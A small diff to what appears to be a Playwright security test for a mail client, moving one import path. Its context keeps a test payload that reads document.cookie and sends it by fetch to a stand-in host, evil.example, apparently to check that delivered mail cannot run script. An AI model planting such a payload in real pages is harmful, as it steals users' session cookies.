@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test'
 import { expect, test } from '../../atrium.ts'
-import { deliverMail } from '../../support/raw-mail.ts'
+import { deliverMail } from '../../support/mail/raw.ts'
 
 /** What it does where it runs: marks the window and calls home. */
 const act = "top.hurt=1;fetch('https://evil.example/'+document.cookie)"
